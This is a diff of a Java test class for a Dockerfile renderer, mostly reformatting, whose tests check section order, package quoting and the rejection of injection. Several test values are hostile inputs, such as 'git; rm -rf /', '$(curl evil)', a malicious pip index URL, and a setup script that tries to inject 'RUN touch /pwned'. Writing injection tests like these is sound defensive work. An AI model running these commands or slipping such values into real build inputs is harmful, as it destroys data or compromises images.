@@ -71,19 +71,21 @@ class DockerfileRendererTest {
   @Test
   void sectionsComeInTheContractOrder() {
     var content = renderer.render(fullSpec()).content();
-    assertThat(positions(content,
-            "FROM ",
-            "USER root",
-            "# Runtime: python 3.12",
-            "# Runtime: nodejs 22",
-            "# System packages",
-            "# Python packages",
-            "# Node packages",
-            "RUN echo extension-marker",
-            "# Setup script 1",
-            "COPY --from=" + RUNNER,
-            "USER 10001",
-            "ENTRYPOINT"))
+    assertThat(
+            positions(
+                content,
+                "FROM ",
+                "USER root",
+                "# Runtime: python 3.12",
+                "# Runtime: nodejs 22",
+                "# System packages",
+                "# Python packages",
+                "# Node packages",
+                "RUN echo extension-marker",
+                "# Setup script 1",
+                "COPY --from=" + RUNNER,
+                "USER 10001",
+                "ENTRYPOINT"))
         .isSorted();
   }
 
@@ -95,8 +97,7 @@ class DockerfileRendererTest {
         .contains("useradd --uid 10001 --gid 10001")
         .contains("WORKDIR /workspace\n")
         .contains("ENV THREADLINE_RUNNER_HOME=/opt/threadline\n");
-    assertThat(content)
-        .endsWith("USER 10001\nENTRYPOINT [\"/opt/threadline/bin/runner\"]\n");
+    assertThat(content).endsWith("USER 10001\nENTRYPOINT [\"/opt/threadline/bin/runner\"]\n");
   }
 
   @Test
@@ -121,8 +122,8 @@ class DockerfileRendererTest {
         .containsPattern("(?m)^# Runtime: " + Pattern.quote(language + " " + version) + " \\(")
         .containsPattern("# Sources?: https://");
     assertThat(content.lines().filter(line -> !line.startsWith("#")))
-        .anySatisfy(line -> assertThat(line).containsPattern(
-            "(?<![0-9.])" + Pattern.quote(pinned) + "(?![0-9])"));
+        .anySatisfy(line ->
+            assertThat(line).containsPattern("(?<![0-9.])" + Pattern.quote(pinned) + "(?![0-9])"));
   }
 
   @Test
@@ -149,25 +150,30 @@ class DockerfileRendererTest {
   void everyPackageNameIsQuotedOnItsOwnLine() {
     var content = renderer.render(fullSpec()).content();
     assertThat(content)
-        .contains("RUN apt-get update \\\n && apt-get install -y --no-install-recommends \\\n"
-            + "      'curl' \\\n      'git' \\\n && rm -rf /var/lib/apt/lists/*\n")
-        .contains("python3 -m pip install --no-cache-dir \\\n"
-            + "      'requests==2.32.3' \\\n      'numpy>=2'\n")
-        .contains("RUN npm install -g --no-fund --no-audit \\\n"
-            + "      'typescript@5.6.3' \\\n && npm cache clean --force\n");
+        .contains(
+            "RUN apt-get update \\\n && apt-get install -y --no-install-recommends \\\n"
+                + "      'curl' \\\n      'git' \\\n && rm -rf /var/lib/apt/lists/*\n")
+        .contains(
+            "python3 -m pip install --no-cache-dir \\\n"
+                + "      'requests==2.32.3' \\\n      'numpy>=2'\n")
+        .contains(
+            "RUN npm install -g --no-fund --no-audit \\\n"
+                + "      'typescript@5.6.3' \\\n && npm cache clean --force\n");
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"git; rm -rf /", "$(curl evil)", "--index-url=http://evil",
-      "a\nRUN evil", "`id`"})
+  @ValueSource(
+      strings = {"git; rm -rf /", "$(curl evil)", "--index-url=http://evil", "a\nRUN evil", "`id`"})
   void hostilePackageNamesAreRefusedBeforeRendering(String hostile) {
-    var spec = new ImageSpec(null, null,
-        new Packages(List.of("curl"), List.of(hostile), List.of()), null, null);
+    var spec =
+        new ImageSpec(
+            null, null, new Packages(List.of("curl"), List.of(hostile), List.of()), null, null);
     assertThatThrownBy(() -> renderer.render(spec))
         .isInstanceOf(InvalidImageSpecException.class)
-        .satisfies(e -> assertThat(((InvalidImageSpecException) e).errors())
-            .extracting(FieldError::field)
-            .containsExactly("packages.python[0]"));
+        .satisfies(e ->
+            assertThat(((InvalidImageSpecException) e).errors())
+                .extracting(FieldError::field)
+                .containsExactly("packages.python[0]"));
   }
 
   @ParameterizedTest
@@ -176,9 +182,10 @@ class DockerfileRendererTest {
     var spec = new ImageSpec(baseImage, null, null, null, null);
     assertThatThrownBy(() -> renderer.render(spec))
         .isInstanceOf(InvalidImageSpecException.class)
-        .satisfies(e -> assertThat(((InvalidImageSpecException) e).errors())
-            .extracting(FieldError::field)
-            .containsExactly("baseImage"));
+        .satisfies(e ->
+            assertThat(((InvalidImageSpecException) e).errors())
+                .extracting(FieldError::field)
+                .containsExactly("baseImage"));
   }
 
   @Test
@@ -208,14 +215,20 @@ class DockerfileRendererTest {
   void setupScriptsRunInOrderAndDecodeBackToTheirText() {
     var first = "#!/bin/sh\necho one\n";
     var hostile = "echo ' \"$(id)\" `id` \\\nEOF\nRUN touch /pwned\n# end\n" + "x".repeat(500);
-    var spec = new ImageSpec(null, null, null, null,
-        List.of(new SetupScript("First one", first), new SetupScript("a\nRUN evil", hostile)));
+    var spec =
+        new ImageSpec(
+            null,
+            null,
+            null,
+            null,
+            List.of(new SetupScript("First one", first), new SetupScript("a\nRUN evil", hostile)));
     var content = renderer.render(spec).content();
 
     var scripts = embeddedScripts(content);
     assertThat(scripts).containsExactly(first, hostile);
     assertThat(content)
-        .contains("/tmp/threadline-setup/01-first-one.sh \\\n && /tmp/threadline-setup/01-first-one.sh")
+        .contains(
+            "/tmp/threadline-setup/01-first-one.sh \\\n && /tmp/threadline-setup/01-first-one.sh")
         .contains("&& bash -e /tmp/threadline-setup/02-a-run-evil.sh")
         .contains("# Setup script 2: \"a\\nRUN evil\"\n")
         .doesNotContainPattern("(?m)^RUN touch|^RUN evil");
@@ -224,16 +237,22 @@ class DockerfileRendererTest {
   @Test
   void theEffectiveDockerfileParsesWithoutErrors() {
     var runtimes = new LinkedHashMap<String, String>();
-    RuntimeCatalog.available().forEach((language, versions) -> runtimes.put(language, versions.get(0)));
-    var spec = new ImageSpec(null, runtimes, fullSpec().packages(),
-        fullSpec().dockerfileExtensions(),
-        List.of(new SetupScript("long", "echo hi\n".repeat(200))));
+    RuntimeCatalog.available()
+        .forEach((language, versions) -> runtimes.put(language, versions.get(0)));
+    var spec =
+        new ImageSpec(
+            null,
+            runtimes,
+            fullSpec().packages(),
+            fullSpec().dockerfileExtensions(),
+            List.of(new SetupScript("long", "echo hi\n".repeat(200))));
     var result = DockerfileValidator.validate(renderer.render(spec).content());
     assertThat(result.valid()).as(String.join("\n", result.warnings())).isTrue();
     // FROM and ENTRYPOINT warn because the validator is written for extensions; nothing else does.
     assertThat(result.warnings())
-        .allSatisfy(w -> assertThat(w)
-            .containsAnyOf("FROM starts", "ENTRYPOINT has no effect", "USER root applies"));
+        .allSatisfy(w ->
+            assertThat(w)
+                .containsAnyOf("FROM starts", "ENTRYPOINT has no effect", "USER root applies"));
   }
 
   /** Each RUN step, joined as the builder joins it, is valid POSIX shell syntax ({@code sh -n}). */
@@ -241,16 +260,28 @@ class DockerfileRendererTest {
   void everyRunStepIsValidShell() throws Exception {
     assumeTrue(Files.isExecutable(Path.of("/bin/sh")), "needs /bin/sh");
     var runtimes = new LinkedHashMap<String, String>();
-    RuntimeCatalog.available().forEach((language, versions) -> runtimes.put(language, versions.get(0)));
-    var spec = new ImageSpec(null, runtimes, fullSpec().packages(), null,
-        List.of(new SetupScript("s", "echo 'hi'\n")));
-    var runSteps = renderer.render(spec).content().replace("\\\n", "").lines()
-        .filter(line -> line.startsWith("RUN "))
-        .map(line -> line.substring("RUN ".length()))
-        .toList();
+    RuntimeCatalog.available()
+        .forEach((language, versions) -> runtimes.put(language, versions.get(0)));
+    var spec =
+        new ImageSpec(
+            null,
+            runtimes,
+            fullSpec().packages(),
+            null,
+            List.of(new SetupScript("s", "echo 'hi'\n")));
+    var runSteps =
+        renderer
+            .render(spec)
+            .content()
+            .replace("\\\n", "")
+            .lines()
+            .filter(line -> line.startsWith("RUN "))
+            .map(line -> line.substring("RUN ".length()))
+            .toList();
     assertThat(runSteps).hasSizeGreaterThan(RuntimeCatalog.languages().size());
     for (var step : runSteps) {
-      var process = new ProcessBuilder("/bin/sh", "-n", "-c", step).redirectErrorStream(true).start();
+      var process =
+          new ProcessBuilder("/bin/sh", "-n", "-c", step).redirectErrorStream(true).start();
       var out = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
       assertThat(process.waitFor()).as(step + "\n" + out).isZero();
     }
